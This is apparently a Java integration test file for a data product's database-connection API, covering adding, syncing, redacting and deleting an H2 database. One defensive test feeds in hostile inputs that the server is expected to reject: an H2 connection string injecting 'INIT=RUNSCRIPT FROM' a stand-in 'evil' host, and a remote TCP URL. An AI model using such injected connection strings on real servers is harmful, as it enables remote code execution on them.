package io.quarry.warehouse;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.quarry.boot.Quarry;
import io.quarry.testing.Api;
import io.quarry.testing.Fixtures;
import io.quarry.testing.TargetDatabases;
import io.quarry.testing.TestServer;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** The spine of connected databases: add an H2 file, sync it, see its tables and keys, redaction, delete. */
class DatabaseBasicsIT {
    private static TestServer server;
    private static Api api;
    private static String admin;

    @BeforeAll
    static void start() {
        server = TestServer.start();
        api = server.api();
        admin = Fixtures.setUp(api);
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    @Test
    void addSyncAndDeleteAnH2Database() throws Exception {
        Path shop = TargetDatabases.h2Shop();
        JsonNode created = api.as(admin).post(200, "database", Map.of("engine", "h2", "name", "Shop",
                "details", Map.of("db", "file:" + shop, "user", TargetDatabases.H2_USER, "password", TargetDatabases.H2_PASSWORD))).json();
        long id = created.get("id").asLong();
        assertEquals(DatabaseViews.REDACTED, created.get("details").get("password").asText(), "secrets are never echoed");
        assertEquals(TargetDatabases.H2_USER, created.get("details").get("user").asText());

        Quarry quarry = server.quarry();
        quarry.sync.syncInBackground(id).get();
        List<Table> tables = quarry.db.with(WarehouseMapper.class, m -> m.listTables(id, true));
        assertEquals(List.of("Customers", "Orders"), tables.stream().map(t -> t.displayName).toList());
        assertEquals("People who buy things", tables.get(0).description);
        List<Field> fields = quarry.db.with(WarehouseMapper.class, m -> m.listFieldsOfDatabase(id));
        Field customerId = fields.stream().filter(f -> f.name.equals("CUSTOMER_ID")).findFirst().orElseThrow();
        Field customersPk = fields.stream().filter(f -> f.name.equals("ID") && f.tableId.equals(tables.get(0).id)).findFirst().orElseThrow();
        assertEquals("Customer ID", customerId.displayName);
        assertEquals("type/FK", customerId.semanticType);
        assertEquals(customersPk.id, customerId.fkTargetFieldId);
        assertEquals("type/PK", customersPk.semanticType);
        assertEquals("type/BigInteger", customersPk.baseType);
        assertEquals("type/Float", fields.stream().filter(f -> f.name.equals("TOTAL")).findFirst().orElseThrow().baseType);
        assertEquals("type/DateTime", fields.stream().filter(f -> f.name.equals("CREATED_AT")).findFirst().orElseThrow().baseType);
        assertEquals("complete", api.as(admin).get(200, "database/" + id).json().get("initial_sync_status").asText());

        // a column and a table disappear: they become inactive, their ids kept
        TargetDatabases.h2Execute(shop, "ALTER TABLE CUSTOMERS DROP COLUMN EMAIL", "CREATE TABLE EXTRA (ID INT PRIMARY KEY)");
        quarry.sync.syncInBackground(id).get();
        List<Field> after = quarry.db.with(WarehouseMapper.class, m -> m.listFieldsOfDatabase(id));
        assertFalse(after.stream().filter(f -> f.name.equals("EMAIL")).findFirst().orElseThrow().active);
        assertEquals(3, quarry.db.with(WarehouseMapper.class, m -> m.listTables(id, true)).size());

        JsonNode list = api.as(admin).get(200, "database").json();
        assertEquals(1, list.get("total").asInt());
        assertTrue(quarry.databasePools.isOpen(id));
        api.as(admin).delete(204, "database/" + id);
        assertFalse(quarry.databasePools.isOpen(id), "deleting a database closes its pool");
        api.as(admin).get(404, "database/" + id);
        assertEquals(0, quarry.db.with(WarehouseMapper.class, m -> m.listTables(id, false)).size());
    }

    @Test
    void refusesH2ConnectionTricksAndUnknownEngines() {
        JsonNode init = api.as(admin).post(400, "database", Map.of("engine", "h2", "name", "Evil",
                "details", Map.of("db", "file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"))).json();
        assertNotNull(init.get("errors").get("db"));
        api.as(admin).post(400, "database", Map.of("engine", "h2", "name", "Remote", "details", Map.of("db", "tcp://evil:9092/x")));
        JsonNode engine = api.as(admin).post(400, "database", Map.of("engine", "oracle9", "name", "X", "details", Map.of())).json();
        assertEquals("value must be a valid database engine.", engine.get("errors").get("engine").asText());
        assertEquals(0, api.as(admin).get(200, "database").json().get("total").asInt(), "nothing half-written");
    }
}
